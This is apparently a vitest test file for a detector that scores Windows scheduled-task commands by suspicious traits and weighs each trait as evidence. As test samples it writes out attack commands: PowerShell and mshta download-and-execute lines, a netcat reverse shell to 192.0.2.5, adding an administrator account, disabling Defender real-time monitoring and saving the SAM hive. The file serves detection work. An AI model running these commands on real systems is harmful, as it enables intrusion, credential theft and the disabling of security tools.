import { describe, expect, test } from 'vitest'
import { madeChain } from '../../lab/made-chains.ts'
import { evidence, sources } from '../evidence.ts'
import { evidenceOf } from '../evidence-of.ts'
import { unknown } from '../known.ts'
import { subjectOf } from '../subject.ts'
import { heldWeight } from '../weight-of-evidence.ts'
import { traits } from './index.ts'
import { counted } from './total.ts'

/** What a task of this command shows. */
function shown(command: string, more: Parameters<typeof madeChain>[0] = {}): string[] {
  const subject = subjectOf(madeChain({ taskPath: '\\Nightly', statedAction: command, ...more }), unknown)
  return traits.filter((trait) => trait.seen(subject) !== undefined).map(({ id }) => id)
}

const acting = (command: string, args: string | null = null, more: object = {}) =>
  ({ definition: { actions: [{ kind: 'exec', command, arguments: args }], ...more } }) as Parameters<
    typeof madeChain
  >[0]
const triggered = (kind: string, more: object = {}) => acting('D:\\a\\b.exe', null, { triggers: [{ kind, ...more }] })
const named = (taskPath: string) => ({ taskPath })
const system = { statedRunAs: 'SYSTEM' }

/** Sights of each trait, by its id; where the command alone does not show it with what else the chain has. */
const sights: Record<string, readonly (string | readonly [string, Parameters<typeof madeChain>[0]])[]> = {
  'place-shared': ['C:\\Users\\Public\\a\\run.exe /x', 'cmd /c start "" /min C:\\Windows\\Tasks\\x1y.cmd'],
  'place-temporary': ['%TEMP%\\loader.exe'],
  'place-received': ['C:\\Users\\bob\\Downloads\\viewer.exe /a', 'cmd /c "C:\\Users\\bob\\Desktop\\go.bat"'],
  'place-no-folder': ['C:\\ProgramData\\chromeupdater.exe', '%APPDATA%\\od.exe', 'C:\\run.exe'],
  'place-appdata': ['C:\\Users\\bob\\AppData\\Roaming\\abc\\def.exe'],
  'place-appdata-script': ['wscript C:\\Users\\bob\\AppData\\Roaming\\abc\\def.js'],
  'place-programdata-script': ['cmd /c C:\\ProgramData\\abc\\go.cmd'],
  'system-name-elsewhere': ['C:\\ProgramData\\Security\\svchost.exe'],
  'lookalike-letters': ['"C:\\Program Files\\Google\\Chrome\\Application\\chrom\u0435.exe"'],
  'maker-in-file': ['C:\\Users\\bob\\AppData\\Roaming\\Google\\chrome_sync.exe'],
  'maker-in-task-name': [['%appdata%\\od.exe', named('\\OneDrive Standalone Update Task')]],
  'among-windows-tasks': [
    ['D:\\a\\b.exe', named('\\Microsoft\\Windows\\Servicing\\Other')],
    ['powershell -c Get-Date', named('\\Microsoft\\Windows\\Printing\\SpoolerSync')],
  ],
  'system-word-in-task-name': [['D:\\a\\b.exe', named('\\Host Security')]],
  'made-up-name': [
    ['D:\\a\\b.exe', named('\\{97F2F70B-10D1-4447-A2F3-9B070C86E261}')],
    ['D:\\a\\b.exe', named('\\win1a2b3')],
  ],
  'short-file-name': ['D:\\a\\x.exe'],
  'unseen-code': [
    'powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString("http://192.0.2.2/s")',
    'mshta.exe https://host.example.net/Injection.txt',
    'powershell.exe -NoP -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
    'regsvr32 /s /u /i:https://host.example.net/a.sct scrobj.dll',
  ],
  intrusion: [
    'cmd.exe /c net user john H4x00r /add && net localgroup administrators john /add',
    'c:\\tools\\nc64.exe -e cmd.exe 192.0.2.5 4449',
    'powershell Set-MpPreference -DisableRealtimeMonitoring $true',
    'cmd /c whoami > \\Windows\\Temp\\a1b2c3 2>&1',
    'reg save hklm\\sam C:\\a\\s',
    'powershell -c IEX(New-Object Net.WebClient).DownloadString("http://192.0.2.2/s")',
  ],
  fetches: ['D:\\a\\b.exe https://host.example.net/x', 'certutil -urlcache -f x y'],
  address: ['D:\\a\\b.exe 192.0.2.5 4449'],
  'hidden-window': ['powershell -w hidden -File D:\\a.ps1', 'powershell.exe -WindowStyle h D:\\a.ps1'],
  'bare-shell': ['cmd.exe', 'powershell -nop -noexit'],
  proxy: ['rundll32 C:\\ProgramData\\good.dll,good', 'msbuild D:\\a.xml'],
  'shell-in-shell': ['cmd /c powershell -File D:\\install.ps1'],
  'script-host': ['wscript.exe //B D:\\a\\a.vbs', 'D:\\a\\a.js'],
  'inline-command': ['cmd /c del D:\\a\\*.log', 'powershell -c Get-Date'],
  'bare-program': ['D:\\a\\b.exe', 'C:\\Users\\bob\\AppData\\Roaming\\abc\\def.exe'],
  'bare-windows-program': ['calc.exe', 'C:\\Windows\\System32\\evil.exe', 'cmd /c calc.exe'],
  'every-few-minutes': [
    ['', triggered('time', { repetition: { interval: 'PT5M', duration: null, stopAtDurationEnd: false } })],
    [
      'D:\\a\\b.exe',
      { change: { actor: { process: { image: 'schtasks.exe', commandLine: 'schtasks /create /sc minute /mo 2' } } } },
    ],
  ],
  'at-logon': [['', triggered('logon')]],
  once: [['', triggered('time')]],
  hidden: [['', acting('D:\\a\\b.exe', null, { settings: { hidden: true } })]],
  'system-from-writable': [['C:\\Users\\bob\\a\\b.exe', system]],
  'as-system': [['D:\\a\\b.exe', system]],
  'place-installed': ['"C:\\Program Files\\A\\b.exe" /x'],
  'windows-own': [
    [
      '',
      {
        ...named('\\Microsoft\\Windows\\Defrag\\ScheduledDefrag'),
        ...acting('%windir%\\system32\\defrag.exe', '-c -h -o -$'),
      },
    ],
  ],
  'place-work-script': ['powershell -File C:\\Scripts\\a.ps1', 'cmd /c C:\\Users\\bob\\work\\a.bat'],
  calendar: [['', triggered('calendar')]],
  'on-event': [['', triggered('boot')]],
  'script-by-file': ['powershell.exe -NoProfile -File C:\\Scripts\\a.ps1'],
  runtime: ['python C:\\work\\a.py'],
  'with-options': ['"C:\\Program Files\\A\\b.exe" --silent', 'D:\\a\\b.exe /verbose'],
}

describe('what is told apart', () => {
  test.each(traits.map(({ id }) => id))('%s', (id) => {
    expect(sights[id]).toBeDefined()
    for (const sight of sights[id] ?? []) {
      const [command, more] = typeof sight === 'string' ? [sight, {}] : sight
      expect(shown(command, command === '' ? { statedAction: null, ...more } : more), command).toContain(id)
    }
  })

  test.each<[command: string, id: string]>([
    ['C:\\Windows\\System32\\svchost.exe -k netsvcs', 'system-name-elsewhere'],
    ['"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"', 'maker-in-file'],
    ['"C:\\Program Files\\A\\crashpad_handler.exe" --url=https://host.example.net/report', 'fetches'],
    ['powershell -File C:\\Scripts\\a.ps1', 'inline-command'],
    ['cmd /c date /t >> D:\\a.txt && exit', 'bare-windows-program'],
    ['taskhostw.exe', 'bare-windows-program'],
    ['"C:\\Program Files\\A\\b.exe"', 'bare-program'],
    ['D:\\a\\b.exe http://localhost:8080/x', 'fetches'],
    ['D:\\a\\b.exe 127.0.0.1', 'address'],
    ['powershell.exe -File C:\\Users\\Public\\a.ps1', 'script-by-file'],
    ['bitsadmin.exe /resume x', 'with-options'],
    ['powershell -NoProfile -c iex x', 'with-options'],
    ['vssadmin create shadow /autoretry=15 /for=c:', 'intrusion'],
    ['netsh interface show', 'intrusion'],
  ])('%s is no sight of %s', (command, id) => {
    expect(shown(command)).not.toContain(id)
  })

  test('what PowerShell takes encoded is looked at decoded', () => {
    const encoded = Buffer.from('Set-MpPreference -DisableRealtimeMonitoring $true; irm 192.0.2.7/a', 'utf16le')
    const ids = shown(`cmd /c powershell -nop -ec ${encoded.toString('base64')}`)
    expect(ids).toEqual(expect.arrayContaining(['unseen-code', 'intrusion', 'address', 'fetches']))
  })

  test('a word of crash handlers hides nothing that lies elsewhere', () => {
    expect(shown('C:\\a\\b.exe --crash-handler https://host.example.net/x')).toContain('fetches')
  })

  test('a run of a task of Windows of which no definition is at hand is no bare program among them', () => {
    const ran = (image: string, commandLine = image) =>
      shown('', {
        taskPath: '\\Microsoft\\Windows\\Registry\\RegIdleBackup',
        statedAction: null,
        runs: [{ processes: [{ image, commandLine }] }],
      })
    expect(ran('C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe')).toEqual([])
    expect(ran('C:\\Users\\bob\\x.exe')).toEqual(expect.arrayContaining(['bare-program', 'among-windows-tasks']))
  })

  test('a path is that of the file whose code runs, not of what is in front of it', () => {
    expect(shown('conhost.exe --headless powershell.exe -File C:\\Users\\Public\\a.ps1')).toContain('place-shared')
    expect(shown('powershell.exe -File C:\\Scripts\\a.ps1 -Log C:\\Users\\Public\\a.log')).not.toContain('place-shared')
  })

  test('a maker’s software in the maker’s own folder borrows no name', () => {
    const own = '%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe'
    expect(shown(own, { taskPath: '\\OneDrive Standalone Update Task' })).not.toContain('maker-in-task-name')
    expect(shown('%appdata%\\od.exe', { taskPath: '\\OneDrive Standalone Update Task' })).toContain(
      'maker-in-task-name',
    )
  })

  test('the name of a task of Windows gives no credit to another action', () => {
    const taskPath = '\\Microsoft\\Windows\\Defrag\\ScheduledDefrag'
    const of = (command: string, args: string) =>
      shown('', { taskPath, statedAction: null, definition: { actions: [{ kind: 'exec', command, arguments: args }] } })
    expect(of('%windir%\\system32\\defrag.exe', '-c -h -o -$')).toContain('windows-own')
    expect(of('C:\\Users\\bob\\defrag.exe', '-c -h -o -$')).not.toContain('windows-own')
    expect(of('C:\\Users\\bob\\defrag.exe', '-c -h -o -$')).toContain('among-windows-tasks')
  })

  test('an administrator’s script shows habits alone', () => {
    const ids = shown('powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\\Scripts\\backup.ps1"')
    expect(ids.filter((id) => evidenceOf(id).bits > 0)).toEqual([])
    expect(ids).toContain('place-work-script')
  })
})

describe('what a trait is worth', () => {
  test('stands in the table, and follows from its counts', () => {
    expect(evidence.map(({ id }) => id)).toEqual(traits.map(({ id }) => id))
    for (const { id, ordinary, attacks, schtasks, bits } of evidence) {
      const held = heldWeight(
        { ordinary: [ordinary, sources.ordinary], attack: [attacks, sources.attacks] },
        { ordinary: [schtasks[0], sources.schtasks[0]], attack: [schtasks[1], sources.schtasks[1]] },
      )
      const isHabit = traits.find((trait) => trait.id === id)?.group === 'habit'
      expect(bits, id).toBeCloseTo(isHabit ? Math.min(held, 0) : Math.max(held, 0), 0.9)
      if (ordinary + attacks < 10) expect(Math.abs(bits), id).toBeLessThanOrEqual(2)
    }
  })

  test('is no more than among sources of one form', () => {
    const all = { ordinary: [10, 200], attack: [50, 100] } as const
    expect(heldWeight(all, { ordinary: [10, 80], attack: [45, 80] })).toBeLessThan(2.5)
    expect(heldWeight(all, { ordinary: [40, 80], attack: [20, 80] })).toBe(0)
  })

  test('counts once in a group, and what looks ordinary counts for two bits at most', () => {
    const total = counted([
      { group: 'place', bits: 4 },
      { group: 'place', bits: 2 },
      { group: 'code', bits: 1 },
      { group: 'habit', bits: -1.5 },
      { group: 'habit', bits: -1.8 },
    ]).reduce((sum, { bits }) => sum + bits, 0)
    expect(total).toBeCloseTo(4 + 1 - 2)
  })
})
